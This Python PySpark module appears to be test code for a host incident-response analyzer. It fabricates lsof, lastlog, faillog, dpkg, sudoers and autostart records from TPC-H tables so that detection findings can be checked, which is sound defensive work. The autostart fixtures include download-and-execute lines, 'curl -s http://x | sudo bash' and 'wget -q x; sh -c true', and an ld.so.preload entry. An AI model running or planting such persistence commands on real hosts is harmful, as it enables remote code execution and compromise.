"""Queries of findings on open files, logs, packages and what hosts share, on files written from the driver's tables."""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from ..extract import accounts, host, logs, slots
from ..operators import analyzers, correlate, host_findings
from .catalog import query, table
from .host_queries import _written

STAMP = "yyyy-MM-dd HH:mm:ss"


def _events(spark: SparkSession, sf_dir: str) -> DataFrame:
    return table(spark, sf_dir, "events").withColumn("ts", F.col("ts").cast("timestamp"))


@query("""
WITH p AS (SELECT user_id AS pid, min(ts) AS started FROM events GROUP BY user_id),
f AS (SELECT event_id % 9 AS k, user_id % 2 = 0 AS known, started FROM events JOIN p ON pid = user_id WHERE event_type <> 'click'),
r AS (
  SELECT 'HIGH' AS severity, 'Process' AS category, 'Process(es) with a deleted executable image open' AS title, started FROM f WHERE k = 0
  UNION ALL SELECT 'MEDIUM', 'Process', 'memfd-backed (fileless) mappings open', started FROM f WHERE k = 1 AND NOT known
  UNION ALL SELECT 'MEDIUM', 'Process', 'Open regular files in temp / shared-memory directories', started FROM f WHERE k = 2
  UNION ALL SELECT 'MEDIUM', 'Network', 'Raw / packet socket(s) open', started FROM f WHERE k = 5
  UNION ALL SELECT 'MEDIUM', 'Network', 'Unix domain socket(s) in a temp directory', started FROM f WHERE k = 6
)
SELECT severity, category, title, count(*) AS "count", strftime(min(started), '%Y-%m-%d %H:%M:%S') AS first, strftime(max(started), '%Y-%m-%d %H:%M:%S') AS last FROM r GROUP BY ALL
""")
def open_file_findings(spark: SparkSession, sf_dir: str) -> DataFrame:
    e = _events(spark, sf_dir)
    k = F.col("event_id") % 9
    rest = (
        F.when(k == 0, "txt REG 8,1 10 20 /opt/x (deleted)").when(k == 1, "txt REG 0,1 10 20 /memfd:a (deleted)").when(k == 2, "4r REG 8,1 10 20 /tmp/f g").when(k == 3, "4u REG 8,1 0 20 /tmp/.X11-lock")
        .when(k == 4, "6r REG 0,2 10 20 /dev/shm/sem.a").when(k == 5, "7u raw 77 0t0 1 IPv4 0.0.0.0:1").when(k == 6, "8u unix 0xf 0t0 9 /tmp/s type=STREAM").when(k == 7, "mem REG 8,1 10 20 /usr/lib/raw.so").otherwise("9u unix 0xf 0t0 9")
    )
    path = F.concat(F.lit("live_response/"), F.col("user_id").cast("string"), F.when(k == 6, "/lsof_-U.txt").otherwise("/lsof_-nPl.txt"))
    line = F.concat(F.when(F.col("user_id") % 2 == 0, "Chrome_IO ").otherwise("nginx "), F.col("user_id").cast("string"), F.lit(" root "), rest)
    lines = _written(e.where("event_type <> 'click'"), path, F.lit("COMMAND PID USER FD TYPE DEVICE SIZE/OFF NODE NAME"), line)
    rules = host_findings.open_file_rules()
    rows = host_findings.with_started(host.open_files(lines), e.select(F.col("user_id").alias("pid"), F.col("ts").alias("started")))
    found = host_findings.strongest(analyzers.findings(analyzers.hits(rows, rules, F.col("name")), rules))
    return found.select("severity", "category", "title", "count", F.date_format("first_utc", STAMP).alias("first"), F.date_format("last_utc", STAMP).alias("last"))


def _low_first(value: Column, size: int) -> Column:
    """An integer as hexadecimal digits, the lowest byte first."""
    digits = F.lpad(F.hex(value.cast("long")), 2 * size, "0")
    return F.concat(*(F.substring(digits, 2 * i + 1, 2) for i in reversed(range(size))))


def _field(value: Column, size: int) -> Column:
    return F.rpad(F.hex(value.cast("binary")), 2 * size, "0")


@query("""
WITH c AS (SELECT c_custkey, c_nationkey AS n, c_name FROM customer), u AS (SELECT n_nationkey AS uid, n_name AS username FROM nation WHERE n_nationkey % 3 <> 0)
SELECT uid, coalesce(username, '') AS username, strftime(make_timestamp((1700000000 + c_custkey) * 1000000), '%Y-%m-%d %H:%M:%S') AS last_login, terminal, remote_host, c_custkey AS machine FROM (
  SELECT CAST(n AS BIGINT) AS uid, c_custkey, 'pts/' || n AS terminal, c_name AS remote_host FROM c
  UNION ALL SELECT n + 2, c_custkey, 'tty1', '' FROM c WHERE c_custkey % 2 = 0
) LEFT JOIN u USING (uid)
""")
def last_logins(spark: SparkSession, sf_dir: str) -> DataFrame:
    n, at = F.col("c_nationkey").cast("int"), F.col("c_custkey") + 1_700_000_000
    empty = F.lit("0" * 2 * slots.LAST_SLOT)
    own = F.concat(_low_first(at, 4), _field(F.format_string("pts/%d", "c_nationkey"), 32), _field(F.col("c_name"), 256))
    second = F.concat(_low_first(at, 4), _field(F.lit("tty1"), 32), _field(F.lit(""), 256))
    content = F.concat(F.repeat(empty, n), own, F.when(F.col("c_custkey") % 2 == 0, F.concat(empty, second)).otherwise(""), F.lit("ffff"))
    files = table(spark, sf_dir, "customer").select(F.concat(F.lit("/h"), F.col("c_custkey").cast("string"), F.lit("/var/log/lastlog")).alias("path"), F.unhex(content).alias("content"))
    users = table(spark, sf_dir, "nation").where("n_nationkey % 3 <> 0").select(F.col("n_nationkey").alias("uid"), F.col("n_name").alias("username"))
    rows = slots.last_logins(files, users)
    return rows.select("uid", "username", F.date_format("last_login_utc", STAMP).alias("last_login"), "terminal", "remote_host", F.substring(F.split("source", "/")[1], 2, 20).cast("long").alias("machine"))


@query("""
SELECT CAST(uid AS BIGINT) AS uid, CAST("count" AS BIGINT) AS "count", most, terminal, CASE WHEN s_suppkey % 5 <> 0 THEN strftime(make_timestamp((1700000000 + s_suppkey) * 1000000), '%Y-%m-%d %H:%M:%S') END AS last, s_suppkey AS machine FROM (
  SELECT 0 AS uid, s_suppkey % 7 AS "count", CAST(9 AS BIGINT) AS most, 'tty' || s_nationkey AS terminal, s_suppkey FROM supplier WHERE s_suppkey % 5 <> 0 OR s_suppkey % 7 <> 0
  UNION ALL SELECT 2, -1, CAST(-2 AS BIGINT), '', s_suppkey FROM supplier
)
""")
def failed_login_slots(spark: SparkSession, sf_dir: str) -> DataFrame:
    s = table(spark, sf_dir, "supplier")
    key = F.col("s_suppkey")
    time = F.when(key % 5 != 0, key + 1_700_000_000).otherwise(0)
    width = lambda size: F.concat(
        _low_first(key % 7, 2), _low_first(F.lit(9), 2), _field(F.format_string("tty%d", "s_nationkey"), 12), _low_first(time, size), _low_first(F.lit(60), size), F.lit("00" * (16 + 2 * size)), F.lit("fffffeff" + "00" * 12), _low_first(time, size), F.lit("00" * size)
    )
    content = F.when(key % 2 == 0, width(8)).otherwise(width(4))
    files = s.select(F.format_string("/h%d/faillog", "s_suppkey").alias("path"), F.unhex(content).alias("content"))
    return slots.failed_counts(files).select("uid", "count", "most", "terminal", F.date_format("last_utc", STAMP).alias("last"), F.substring(F.split("source", "/")[1], 2, 20).cast("long").alias("machine"))


@query("""
WITH o AS (SELECT *, l_shipdate >= DATE '1996-01-01' AS fresh FROM (SELECT l_orderkey, CAST(l_shipdate AS DATE) AS l_shipdate, l_linenumber % 4 AS a, l_partkey % 10 AS p FROM lineitem))
SELECT CASE WHEN count(*) > 100 THEN 'LOW' ELSE 'MEDIUM' END AS severity, count(*) || ' package operation(s) within 48h of collection' AS title, count(*) AS "count", strftime(min(l_shipdate), '%Y-%m-%d') AS first, strftime(max(l_shipdate), '%Y-%m-%d') AS last FROM o WHERE fresh AND a < 3
UNION ALL SELECT 'MEDIUM', 'Compiler / dual-use package(s) installed inside the incident window', count(*), strftime(min(l_shipdate), '%Y-%m-%d'), strftime(max(l_shipdate), '%Y-%m-%d') FROM o WHERE fresh AND a = 0 AND p IN (0, 1)
""")
def package_operations(spark: SparkSession, sf_dir: str) -> DataFrame:
    r, p = F.col("l_linenumber") % 4, F.col("l_partkey") % 10
    action = F.when(r == 0, "install").when(r == 1, "upgrade").when(r == 2, "remove").otherwise("status")
    name = F.when(p == 0, "gcc:amd64").when(p == 1, "nmap").otherwise(F.concat(F.lit("p"), F.coalesce(F.col("l_partkey").cast("string"), F.lit("null")), F.lit(":amd64")))
    line = F.concat(F.date_format("l_shipdate", "yyyy-MM-dd"), F.lit(" 10:00:00 "), action, F.lit(" "), name, F.lit(" 1.0 1.1"))
    lines = table(spark, sf_dir, "lineitem").select(F.lit("/var/log/dpkg.log").alias("path"), F.lit(1).cast("long").alias("line_no"), line.alias("line"))
    rules = host_findings.package_operation_rules(F.lit("1996-01-01 00:00:00").cast("timestamp"), 48)
    found = analyzers.findings(analyzers.hits(logs.package_lines(lines), rules, F.col("package")), rules)
    return found.select("severity", "title", "count", F.date_format("first_utc", "yyyy-MM-dd").alias("first"), F.date_format("last_utc", "yyyy-MM-dd").alias("last"))


@query("""
WITH f AS (SELECT o_custkey AS host, o_orderkey % 6 AS k, CASE WHEN o_orderkey % 4 = 0 THEN 0 ELSE 10 END AS size FROM orders),
s AS (SELECT host, count(*) FILTER (k IN (0, 1) AND size = 0) AS e, count(*) FILTER (k = 0) AS a, count(*) FILTER (k = 2) AS j FROM f GROUP BY host)
SELECT host, 'HIGH' AS severity, 'Log file(s) present but empty' AS title, e AS "count" FROM s WHERE e > 0
UNION ALL SELECT host, 'LOW', 'No auth.log/secure collected', 1 FROM s WHERE a = 0
UNION ALL SELECT host, 'INFO', j || ' systemd journal file(s) collected', j FROM s WHERE j > 0
""")
def log_file_findings(spark: SparkSession, sf_dir: str) -> DataFrame:
    k = F.col("o_orderkey") % 6
    path = F.when(k == 0, "/var/log/secure").when(k == 1, "[root]/var/log/nginx/error.log").when(k == 2, F.format_string("/var/log/journal/m/system@%d.journal", "o_orderkey")).when(k == 3, "/var/log/journal/a/b/c.journal").when(k == 4, "/var/log/secure.1").otherwise("/home/u/syslog")
    files = table(spark, sf_dir, "orders").select(F.col("o_custkey").alias("host"), path.alias("path"), F.when(F.col("o_orderkey") % 4 == 0, 0).otherwise(10).alias("size"))
    return host_findings.log_file_findings(files).select("host", "severity", "title", "count")


@query("""
WITH r AS (
  SELECT DISTINCT 'n' || c_nationkey AS host, CASE c_mktsegment WHEN 'BUILDING' THEN '%wheel ALL=(ALL) ALL' WHEN 'MACHINERY' THEN 'svc ALL=(ALL) NOPASSWD: /bin/x' ELSE 'u' || c_custkey % 40 || ' ALL=(ALL) ALL' END AS g,
    CASE WHEN c_mktsegment = 'MACHINERY' THEN true ELSE false END AS free FROM customer
), m AS (SELECT DISTINCT 'n' || s_nationkey AS host, 's' || s_suppkey % 9 AS member, s_suppkey % 9 AS i FROM supplier), p AS (SELECT DISTINCT member FROM m WHERE i >= 4)
SELECT 'sudoers' AS kind, g AS "grant", count(*) AS host_count, string_agg(host, ', ' ORDER BY host) AS hosts, bool_or(free) OR g <> '%wheel ALL=(ALL) ALL' AS notable, bool_or(free) AS nopasswd, string_agg(host || ': /etc/sudoers', ' | ' ORDER BY host) AS "where" FROM r GROUP BY g HAVING count(*) > 1
UNION ALL SELECT 'group', 'sudo: ' || member, count(*), string_agg(host, ', ' ORDER BY host), member IN (SELECT member FROM p), false, string_agg(host || ': gid 27', ' | ' ORDER BY host) FROM m GROUP BY member HAVING count(*) > 1
""")
def shared_grants(spark: SparkSession, sf_dir: str) -> DataFrame:
    c, s = table(spark, sf_dir, "customer"), table(spark, sf_dir, "supplier")
    at = lambda key: F.concat(F.lit("n"), F.col(key).cast("string"))
    line = F.when(F.col("c_mktsegment") == "BUILDING", "%wheel  ALL=(ALL)\tALL").when(F.col("c_mktsegment") == "MACHINERY", "svc ALL=(ALL) NOPASSWD: /bin/x").otherwise(F.format_string("u%d ALL=(ALL) ALL", F.col("c_custkey") % 40))
    lines = c.select(F.concat(at("c_nationkey"), F.lit(":/etc/sudoers")).alias("path"), F.col("c_custkey").alias("line_no"), line.alias("line"))
    rules = accounts.sudoers(lines).select(F.substring_index("file", ":", 1).alias("host"), "rule", F.substring_index("file", ":", -1).alias("where"), "nopasswd")
    name = F.format_string("s%d", F.col("s_suppkey") % 9)
    members = s.select(at("s_nationkey").alias("host"), F.lit("sudo").alias("group"), name.alias("member"), F.lit("gid 27").alias("where"))
    people = s.select(at("s_nationkey").alias("host"), name.alias("username"), F.when(F.col("s_suppkey") % 9 >= 4, F.col("s_suppkey") % 9 + 1000).otherwise(F.col("s_suppkey") % 9 + 100).alias("uid"))
    return correlate.shared_grants(rules, members, people)


@query("""
WITH e AS (SELECT DISTINCT 'n' || s_nationkey AS host, s_suppkey % 6 AS k FROM supplier),
g AS (SELECT k, count(*) AS n FROM e GROUP BY k HAVING count(*) > 1)
SELECT CASE WHEN bool_or(k = 0) THEN 'HIGH' ELSE 'MEDIUM' END AS severity, 'Correlation' AS category, count(*) || ' autostart entry(ies) somebody added appear on more than one host' AS title, count(*) AS "count" FROM g WHERE k IN (0, 1, 2, 3) HAVING count(*) > 0
UNION ALL SELECT 'INFO', 'Correlation', count(*) || ' further autostart entry(ies) appear on more than one host', count(*) FROM g WHERE k NOT IN (0, 1, 2, 3) HAVING count(*) > 0
""")
def shared_autostarts(spark: SparkSession, sf_dir: str) -> DataFrame:
    k = F.col("s_suppkey") % 6
    value = F.when(k == 0, "/lib/libx.so").when(k == 1, "/tmp/run --daemon").when(k == 2, "curl -s http://x | sudo bash").when(k == 3, "/usr/bin/python3 -c 'import os'").when(k == 4, "/usr/sbin/logrotate").otherwise("wget -q x; sh -c true")
    entries = table(spark, sf_dir, "supplier").select(F.format_string("n%d", "s_nationkey").alias("host"), F.when(k == 0, "ld.so.preload").otherwise("cron").alias("kind"), value.alias("value"), F.lit("/etc/crontab").alias("where"))
    return correlate.shared_findings_of(correlate.shared_autostarts(entries), F.col("kind") == "ld.so.preload", correlate.AUTOSTART_TITLES)
